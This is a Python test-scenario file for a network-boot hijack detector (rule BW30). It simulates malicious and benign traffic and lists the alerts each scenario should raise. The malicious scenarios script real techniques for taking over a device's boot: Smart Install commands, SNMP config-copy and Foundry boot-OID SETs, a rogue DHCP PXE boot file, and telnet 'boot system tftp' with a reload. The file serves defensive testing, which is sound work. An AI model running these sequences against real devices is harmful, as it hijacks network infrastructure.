"""BW30: several stages of a hijack on one device, and the stories that only look like one."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic import snmp, syslog, tftp
from bootwarden.traffic.dhcp import DISCOVER, OFFER, Client, addresses
from bootwarden.traffic.images import config, efi, ios
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Tcp, Wire

DEVICE, OTHER, PC = "10.0.1.1", "10.0.1.2", "10.0.4.20"
ATTACKER, ROGUE, ADMIN, SERVER = "10.0.6.6", "10.0.6.66", "10.0.9.10", "10.0.0.5"
APPROVED = "c2900-universalk9-mz.SPA.157-3.M8.bin"
EVIL = "c2960-lanbasek9-mz.150-2.SE11.bin"
LIST = "tar_imglist0.txt"
EVIL_IMAGE = ios(EVIL, "15.0(2)SE11", "C2960", 3000, "hijack")
FOUNDRY_BOOT = "1.3.6.1.4.1.1991.1.1.2.4.1.1"


def hijack(device: str, file: str, server: str = ROGUE) -> Notice:
    """The notice of the chain; it names what completed it."""
    return Notice("Netboot_Hijack", device, server, file)


def rogue_image(device: str, file: str = EVIL) -> tuple[Notice, Notice]:
    """What an image that nobody approved, from a server that nobody declared, raises by itself."""
    return (
        Notice("Unauthorized_Boot_Server", device, ROGUE, file),
        Notice("Unapproved_Image", device, ROGUE, file),
    )


@scenario(
    "BW30",
    "malicious",
    raises=[("BW06", 0, "10.0.6.66", "10.0.1.1"), ("BW30", 0, "10.0.6.66", "10.0.1.1")],
    raises_with_site=[
        ("BW06", 0, "10.0.6.66", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW20", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, LIST), hijack(DEVICE, LIST))),
    site=HQ,
    with_site=Expect(
        (
            Notice("Smart_Install_Command", DEVICE, ROGUE, LIST),
            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, LIST),
            hijack(DEVICE, LIST),
            Notice("Unapproved_Image", DEVICE, ROGUE, EVIL),
        )
    ),
)
def bw30_smart_install(wire: Wire) -> None:
    """A switch is told by Smart Install to take an image, and takes it."""
    tcp = Tcp(wire, ROGUE, 50786, DEVICE, smi.PORT)
    tcp.send(smi.image(f"tftp://{ROGUE}/{LIST}"))
    tcp.close()
    wire.wait(2)
    tftp.read(wire, DEVICE, ROGUE, LIST, EVIL.encode() + b"\n", client_port=50001)
    wire.wait(1)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50002, server_port=32769)


@scenario(
    "BW30",
    "malicious",
    raises=[
        ("BW03", 1, "10.0.6.6", "10.0.1.1"),
        ("BW08", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    raises_with_site=[
        ("BW03", 1, "10.0.6.6", "10.0.1.1"),
        ("BW08", 0, "10.0.6.66", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW10", 1, "10.0.6.66", "10.0.1.1"),
        ("BW20", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Config_Copy", DEVICE, ROGUE, "evil-confg"),
            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "evil-confg"),
            hijack(DEVICE, "evil-confg"),
            Notice("Boot_Config_Served", DEVICE, ROGUE, "evil-confg"),
            Notice("Unapproved_Image", DEVICE, ROGUE, EVIL),
        )
    ),
)
def bw30_snmp_row_config_image(wire: Wire) -> None:
    """An SNMP row built over several SETs fetches a configuration, which fetches an image an hour later."""
    manager = snmp.Manager(wire, ATTACKER, DEVICE)
    for columns in ({14: 5}, {3: 1, 4: 3}, {2: 1, 5: IPv4Address(ROGUE)}, {6: "evil-confg"}, {14: 1}):
        manager.set(*snmp.row(snmp.CONFIG_COPY, 9999, columns))
    wire.wait(1)
    text = config("edge1", (f"boot system tftp://{ROGUE}/{EVIL}",))
    tftp.read(wire, DEVICE, ROGUE, "evil-confg", text, client_port=50001)
    wire.wait(3600)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50002, server_port=32769)


@scenario(
    "BW30",
    "malicious",
    site=HQ,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", PC, ROGUE, "evil.efi"),
            *rogue_image(PC, "evil.efi"),
            hijack(PC, "evil.efi"),
        ),
        boots=(
            {
                "device": PC,
                "why": ["options", "image"],
                "told_by": ROGUE,
                "server": ROGUE,
                "image": "evil.efi",
                "image_verdict": "suspicious",
                "fetched_by": "tftp",
                "verdict": "suspicious",
            },
        ),
    ),
    raises_with_site=[
        ("BW01", 0, "10.0.6.66", "255.255.255.255"),
        ("BW10", 4, "10.0.6.66", "10.0.4.20"),
        ("BW30", 3, "10.0.6.66", "10.0.4.20"),
    ],
)
def bw30_rogue_dhcp_pxe(wire: Wire) -> None:
    """A rogue DHCP server leases an address with a boot file, which the PC then loads."""
    client = Client(wire, PC, vendor_class="PXEClient:Arch:00007:UNDI:003016")
    client.lease(ROGUE, [(66, ROGUE), (67, "evil.efi"), (1, addresses("255.255.0.0"))], siaddr=ROGUE, file=b"evil.efi")
    tftp.read(wire, PC, ROGUE, "evil.efi", efi(3000), offer={"tsize": 0, "blksize": 1468})


@scenario(
    "BW30",
    "malicious",
    raises=[
        ("BW05", 3, "10.0.6.6", "10.0.1.1"),
        ("BW07", 0, "10.0.6.6", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    raises_with_site=[
        ("BW05", 3, "10.0.6.6", "10.0.1.1"),
        ("BW07", 0, "10.0.6.6", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW20", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", DEVICE, ROGUE, EVIL),
            Notice("Remote_Reload", DEVICE),
            *rogue_image(DEVICE),
            hijack(DEVICE, EVIL),
        )
    ),
)
def bw30_telnet_reload_image(wire: Wire) -> None:
    """A boot command and a reload by telnet, then the image."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("conf t")
    session.typed(f"boot system tftp {EVIL} {ROGUE}")
    session.typed("end")
    session.typed("reload", "Proceed with reload? [confirm]", prompt="")
    session.typed("", "")
    session.close()
    wire.wait(90)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "malicious",
    raises=[("BW04", 2, "10.0.6.6", "10.0.1.1"), ("BW30", 0, "10.0.6.66", "10.0.1.1")],
    raises_with_site=[
        ("BW04", 2, "10.0.6.6", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW20", 0, "10.0.6.66", "10.0.1.1"),
        ("BW30", 0, "10.0.6.66", "10.0.1.1"),
    ],
    site=HQ,
    with_site=Expect((Notice("SNMP_Image_Copy", DEVICE, ROGUE, EVIL), *rogue_image(DEVICE), hijack(DEVICE, EVIL))),
)
def bw30_foundry_one_set(wire: Wire) -> None:
    """One SET makes a Foundry switch boot from TFTP, and it does 23 hours later."""
    columns = {2: 3, 3: IPv4Address(ROGUE), 4: EVIL, 5: 4}
    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(FOUNDRY_BOOT, 1, columns))
    wire.wait(23 * 3600)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "benign",
    raises=[("BW05", 3, "10.0.9.10", "10.0.1.1"), ("BW07", 1, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[],
    plain=Expect((Notice("Netboot_Hijack", DEVICE),)),  # as information: only a site says that this is as it should be
    site=HQ,
    with_site=Expect(
        boots=(
            {
                "device": DEVICE,
                "why": ["order", "reload", "image", "restart"],
                "told_by": f"anna@{ADMIN}",
                "server": SERVER,
                "image": APPROVED,
                "version": "15.7(3)M8",
                "image_verdict": "expected",
                "running": "c2900 15.7(3)M8",
                "restarted_by": f"anna@{ADMIN}",
                "verdict": "expected",
            },
        )
    ),
)
def bw30_approved_upgrade(wire: Wire) -> None:
    """An admin host orders the approved image from the declared server, reloads the router, and it restarts."""
    session = Telnet(wire, ADMIN, DEVICE)
    session.login(user="anna")
    session.typed(f"copy tftp://{SERVER}/{APPROVED} flash:", "Destination filename [x]?", prompt="")
    session.typed("", "")
    tftp.read(wire, DEVICE, SERVER, APPROVED, ios())
    session.typed("reload", "Proceed with reload? [confirm]", prompt="")
    session.typed("", "")
    session.close()
    wire.wait(180)
    syslog.ios(
        wire,
        DEVICE,
        "%SYS-5-RESTART: System restarted --\nCisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), "
        "Version 15.7(3)M8, RELEASE SOFTWARE (fc1)",
        sequence=30,
    )
    snmp.trap_v2(wire, DEVICE, "10.0.9.20", snmp.COLD_START)


@scenario(
    "BW30",
    "benign",
    site=HQ,
    with_site=Expect(rogue_image(DEVICE), boots=()),
    raises_with_site=[("BW10", 0, "10.0.6.66", "10.0.1.1"), ("BW20", 0, "10.0.6.66", "10.0.1.1")],
)
def bw30_one_stage_alone(wire: Wire) -> None:
    """One image from a rogue server, and no other stage."""
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "benign",
    raises=[("BW03", 1, "10.0.6.6", "10.0.1.1")],
    raises_with_site=[
        ("BW03", 1, "10.0.6.6", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.2"),
        ("BW20", 0, "10.0.6.66", "10.0.1.2"),
    ],
    site=HQ,
    with_site=Expect((Notice("SNMP_Config_Copy", DEVICE, ROGUE, "evil-confg"), *rogue_image(OTHER))),
)
def bw30_two_devices(wire: Wire) -> None:
    """One device is redirected, another one fetches."""
    columns = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(snmp.CONFIG_COPY, 111, columns))
    wire.wait(60)
    tftp.read(wire, OTHER, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "benign",
    raises=[("BW04", 2, "10.0.6.6", "10.0.1.1")],
    raises_with_site=[
        ("BW04", 2, "10.0.6.6", "10.0.1.1"),
        ("BW10", 0, "10.0.6.66", "10.0.1.1"),
        ("BW20", 0, "10.0.6.66", "10.0.1.1"),
    ],
    site=HQ,
    with_site=Expect((Notice("SNMP_Image_Copy", DEVICE, ROGUE, EVIL), *rogue_image(DEVICE))),
)
def bw30_too_far_apart(wire: Wire) -> None:
    """The stages lie 25 hours apart."""
    columns = {2: 3, 3: IPv4Address(ROGUE), 4: EVIL, 5: 4}
    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(FOUNDRY_BOOT, 1, columns))
    wire.wait(25 * 3600)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "benign",
    site=HQ,
    with_site=Expect(rogue_image(DEVICE)),
    raises_with_site=[("BW10", 0, ROGUE, DEVICE), ("BW20", 0, ROGUE, DEVICE)],
)
def bw30_image_and_polling(wire: Wire) -> None:
    """One image from a rogue server, and then a management station asks what the device runs, and since when."""
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
    manager = snmp.Manager(wire, "10.0.9.30", DEVICE, community="public")
    text = "Cisco IOS Software, C2960 Software (C2960-LANBASEK9-M), Version 15.0(2)SE10, RELEASE SOFTWARE (fc3)"
    for up in (864_000, 864_300):
        wire.wait(300)
        manager.get(
            (snmp.SYS_UPTIME, snmp.ticks(up)),
            (snmp.SYS_DESCR, text),
            ("1.3.6.1.4.1.9.2.1.2.0", "reload"),
            ("1.3.6.1.4.1.9.2.1.6.0", IPv4Address("0.0.0.0")),
        )


@scenario(
    "BW30",
    "malicious",
    raises=[("BW06", 1, ROGUE, DEVICE)],
    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "my.conf"), Notice("Netboot_Hijack", DEVICE))),
    site=HQ,
    with_site=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "my.conf"), Notice("Netboot_Hijack", DEVICE))),
)
def bw30_config_then_restart(wire: Wire) -> None:
    """A switch is told by Smart Install to change its configuration, and restarts; the fetch was not seen."""
    tcp = Tcp(wire, ROGUE, 50786, DEVICE, smi.PORT)
    tcp.send(smi.config(f"tftp://{ROGUE}/my.conf"))
    tcp.close()
    wire.wait(60)
    snmp.trap_v2(wire, DEVICE, "10.0.9.30", snmp.COLD_START)


@scenario(
    "BW30",
    "malicious",
    site=HQ,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", "10.0.6.100", ROGUE, "evil.efi"),
            *rogue_image(PC, "evil.efi"),
            hijack(PC, "evil.efi"),
        )
    ),
    raises_with_site=[
        ("BW01", 0, ROGUE, "255.255.255.255"),
        ("BW10", 4, ROGUE, PC),
        ("BW30", 3, "10.0.6.66", "10.0.4.20"),
    ],
)
def bw30_leased_elsewhere(wire: Wire) -> None:
    """A rogue server offers an address and a boot file; the PC leases another address, and loads that file."""
    client = Client(wire, PC, vendor_class="PXEClient:Arch:00007:UNDI:003016")
    client.ask(DISCOVER)
    boot = [(66, ROGUE), (67, "evil.efi")]
    client.reply(ROGUE, OFFER, boot, yiaddr="10.0.6.100", siaddr=ROGUE, file=b"evil.efi")
    client.lease("10.0.0.2", [(3, addresses("10.0.4.254"))])
    tftp.read(wire, PC, ROGUE, "evil.efi", efi(3000), offer={"tsize": 0, "blksize": 1468})


@scenario(
    "BW30",
    "malicious",
    raises=[
        ("BW04", 2, ATTACKER, "10.0.1.14"),
        ("BW04", 2, ATTACKER, "10.0.1.15"),
        ("BW05", 1, ATTACKER, "10.0.1.14"),
        ("BW05", 3, ATTACKER, "10.0.1.15"),
        ("BW30", 1, ATTACKER, "10.0.1.14"),
        ("BW30", 2, ATTACKER, "10.0.1.15"),
    ],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.14", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.bin"),
            Notice("Remote_Reload", "10.0.1.14"),
            Notice("Netboot_Hijack", "10.0.1.14"),
            Notice("Remote_Reload", "10.0.1.15"),
            Notice("Netboot_Hijack", "10.0.1.15"),
        )
    ),
)
def bw30_reload_last(wire: Wire) -> None:
    """Two devices are redirected by SNMP; an hour later one is reloaded by SNMP, the other by telnet."""
    columns = {2: 3, 3: IPv4Address(ROGUE), 4: "evil.bin", 5: 4}
    for device in ("10.0.1.14", "10.0.1.15"):
        snmp.Manager(wire, ATTACKER, device).set(*snmp.row("1.3.6.1.4.1.1991.1.1.2.4.1.1", 1, columns))
    wire.wait(3600)
    snmp.Manager(wire, ATTACKER, "10.0.1.14").set(("1.3.6.1.4.1.1991.1.1.2.1.1.0", 3))
    session = Telnet(wire, ATTACKER, "10.0.1.15")
    session.login()
    session.typed("reload", "Are you sure?", prompt="")
    session.typed("y", "")
    session.close()
